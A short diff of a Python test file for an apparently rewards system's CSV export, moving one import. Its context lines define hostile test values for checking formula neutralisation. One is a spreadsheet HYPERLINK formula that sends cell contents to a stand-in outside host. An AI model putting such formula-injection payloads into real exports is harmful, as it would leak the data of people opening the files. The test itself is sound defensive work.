@@ -12,10 +12,10 @@ from points.csv_export import neutralise
 from points.org.models import Role
 from points.rewards.policy import Actor
 from points.rewards.workflow import fulfil_many
-from tests.conftest import Store
 from tests.support.factories import login, make_department, make_employee, make_token
 from tests.support.org import Org
 from tests.support.rewards import actor_for, give, make_reward
+from tests.support.services import Store
 
 HOSTILE_NAME = '=HYPERLINK("http://x/?"&A1,"x")'
 HOSTILE_DEPARTMENT = "+SUM(1,2)"
